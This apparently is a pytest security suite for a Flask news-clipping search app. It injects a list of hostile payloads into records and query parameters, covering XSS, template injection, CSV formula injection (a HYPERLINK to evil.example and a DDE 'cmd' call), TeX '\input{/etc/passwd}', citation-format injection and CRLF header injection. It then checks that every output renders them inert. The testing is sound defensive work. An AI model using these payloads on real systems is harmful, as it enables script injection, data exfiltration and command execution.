"""Nothing a clipping or a query says is ever run: not by a browser, a feed reader, a spreadsheet or TeX."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from datetime import date
from urllib.parse import quote, urlencode

import bibtexparser
import html5lib
import pytest
import rispy
from flask.testing import FlaskClient
from lxml import etree

from search.config import Settings
from search.engine import Batch, open_engine
from search.model import Clipping, FileRecord, Line
from search.query.params import PARAMETERS
from web import create_app

PAYLOADS = (
    "<script>pwn()</script>",
    '"><img src=x onerror=pwn()>',
    "' autofocus onfocus=pwn() x='",
    "</title></textarea></style></script><svg/onload=pwn()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
    "<!--><script>pwn()</script-->",
    '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
    "]]></title><script xmlns='http://www.w3.org/1999/xhtml'>pwn()</script>",
    "&lt;script&gt;pwn()&lt;/script&gt;&#60;b&#62;",
    "{{ 7*'7' }}{% for x in ().__class__.__base__.__subclasses__() %}${7*7}#{7*7}",
    "javascript:pwn()//\u202e\u2066<b>",
    "＜script＞pwn()＜／script＞﹤b﹥",
    "\ufeff\u0000\u0008<x onclick=pwn()>\u2028\u0085",
    '=HYPERLINK("http://evil.example/?"&A1,"pwn")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x\r\nER  - \r\n\r\nTY  - JOUR\r\nTI  - pwn",
    "}}, note = {pwn}, x = {{",
    "\\input{/etc/passwd} % \\end{document} @comment{pwn}",
    "%0d%0aSet-Cookie: pwn=1\r\nX-Pwn: 1",
)
DAY = date(2020, 2, 2)


def clipping(number: int, payload: str) -> Clipping:
    return Clipping(
        id=f"2020-02-02-{number:06d}",
        path=f"a/{payload}.html",
        title=f"{payload} 題",
        lead=payload,
        body=f"目印{number} {payload}\n目印 {payload}",
        captions=(payload,),
        profile=payload,
        published=DAY,
        authors=(payload, f"{payload} 記者"),
        source=payload,
        section=payload,
        url=f"https://news.example/{payload}",
        lines=(Line(payload, "chrome", payload), Line(payload, "body", "")),
    )


@pytest.fixture(scope="module")
def client() -> FlaskClient:
    engine = open_engine("memory:")
    made = [clipping(number, payload) for number, payload in enumerate(PAYLOADS)]
    files = [FileRecord(c.path, 1, 1, c.id, c.id, "indexed", c.id) for c in made]
    files += [FileRecord(f"{p}.txt", 0, 1, "", "", "failed", reason=p, first_seen=p) for p in PAYLOADS]
    with engine.writing() as writer:
        writer.apply(Batch(add=made, files=files))
    return create_app(Settings(), engine).test_client()


def runs(html: str) -> list[str]:
    """Return what a browser would run of a page, as its own parser reads it."""
    found = []
    elements = html5lib.parse(html, namespaceHTMLElements=False).iter()
    for element in (element for element in elements if isinstance(element.tag, str)):  # others are comments
        if element.tag == "script" and (element.text or "").strip():
            found.append(f"script {element.text}")
        if element.tag.rpartition("}")[2] in ("style", "iframe", "object", "embed", "base", "math", "img"):
            found.append(element.tag)
        for name, value in element.attrib.items():
            name = str(name)
            if name.startswith("on") or name in ("style", "srcdoc", "autofocus"):
                found.append(f"{name}={value}")
            if name in ("href", "src", "action", "formaction") and not re.match(r"[/#?]|https?://", value):
                found.append(f"{name}={value}")
    return found


def check(client: FlaskClient, url: str, statuses: tuple[int, ...] = (200,)) -> str:
    answer = client.get(url)
    assert answer.status_code in statuses, (answer.status_code, url)
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert not {"Set-Cookie", "X-Pwn"} & set(answer.headers.keys())
    if answer.mimetype == "text/html":
        assert not runs(answer.text), url
    return answer.text


def test_the_check_would_find_something() -> None:
    assert runs("<p onclick=x()>")
    assert runs("<script>x()</script>")
    assert runs("<a href='java\tscript:x()'>")
    assert not runs("<p>&lt;script&gt;x()&lt;/script&gt;<script src=/a.js></script>")


@pytest.mark.parametrize("path", ["/", "/search", "/status", "/authors", "/dates", "/search?view=list&explain=1"])
def test_pages_that_list_everything(client: FlaskClient, path: str) -> None:
    check(client, path)
    check(client, f"{path}{'&' if '?' in path else '?'}lang=en")


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_pages_of_one_article(client: FlaskClient, number: int) -> None:
    id, payload = f"2020-02-02-{number:06d}", PAYLOADS[number]
    for path in (f"/articles/{id}", f"/articles/{id}?q=目印{number}&lit=JP&tate=1", f"/articles/{id}/source"):
        check(client, path)
    check(client, f"/search?q=目印{number}")
    for name in ("authors", "sections", "sources"):
        check(client, f"/{name}/{quote(payload, safe='')}", (200, 400, 404))
    body = client.get(f"/api/v1/articles/{id}")
    assert (body.mimetype, body.get_json()["title"]) == ("application/json", f"{payload} 題")
    assert client.get(f"/articles/{id}.txt").mimetype == "text/plain"


NAMES = [*PARAMETERS, "lang", "view", "lit", "tate", "pwn<b>"]


@pytest.mark.parametrize("name", NAMES)
def test_a_payload_in_every_parameter(client: FlaskClient, name: str) -> None:
    for payload in PAYLOADS if name == "q" else PAYLOADS[NAMES.index(name) % 6 :: 6]:
        asked = urlencode({name: payload} if name == "q" else {"q": "目印", name: payload})
        check(client, f"/search?{asked}", (200, 302, 400))
        for path in ("/api/v1/search", "/search.csv", "/search.atom", "/api/v1/suggest"):
            answer = client.get(f"{path}?{asked}")
            assert answer.status_code in (200, 400), (path, asked)
            assert answer.mimetype != "text/html"
            assert "pwn" not in str(answer.headers.get("Content-Disposition"))
            assert all(char in "\t" or 32 <= ord(char) < 127 for value in answer.headers.values() for char in value)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_as_a_path(client: FlaskClient, payload: str) -> None:
    for path in ("/", "/articles/", "/countries/", "/dates/", "/problems/", "/api/v1/articles/", "/api/v1/facets/"):
        check(client, path + quote(payload, safe=""), (200, 302, 308, 400, 404))


def test_the_feed_is_text(client: FlaskClient) -> None:
    root = etree.fromstring(client.get("/search.atom").data)
    space = "{http://www.w3.org/2005/Atom}"
    assert {element.tag.removeprefix(space) for element in root.iter()} <= {
        *("feed", "id", "title", "updated", "author", "name", "link", "generator", "entry", "published", "summary"),
    }
    assert all(title.get("type", "text") == "text" for title in root.iter(f"{space}title", f"{space}summary"))
    titles = [title.text for title in root.iter(f"{space}title")]
    assert f"{PAYLOADS[0]} 題" in titles
    assert len(root.findall(f"{space}entry")) == len(PAYLOADS)


def test_a_spreadsheet_calculates_nothing(client: FlaskClient) -> None:
    rows = list(csv.reader(io.StringIO(client.get("/search.csv").text[1:], newline="")))
    assert len(rows) == len(PAYLOADS) + 1
    for cell in (cell for row in rows for cell in row):
        assert unicodedata.normalize("NFKC", cell).strip()[:1] not in ("=", "+", "-", "@") or cell[:1] == "'"


def test_bibliographies_hold_their_entries_alone(client: FlaskClient) -> None:
    entries = rispy.loads(client.get("/search.ris").text)
    assert len(entries) == len(PAYLOADS)
    assert {entry["type_of_reference"] for entry in entries} == {"NEWS"}
    text = client.get("/search.bib").text
    library = bibtexparser.parse_string(text)
    assert (len(library.entries), library.failed_blocks, library.comments) == (len(PAYLOADS), [], [])
    assert all("note" not in entry.fields_dict for entry in library.entries)
    assert "\\input{" not in text
    assert not re.search(r"(?<!\\)%(?![0-9A-F]{2})", text)
    lines = client.get("/search.jsonl").text.splitlines()
    assert {json.loads(line)["title"] for line in lines} == {f"{payload} 題" for payload in PAYLOADS}
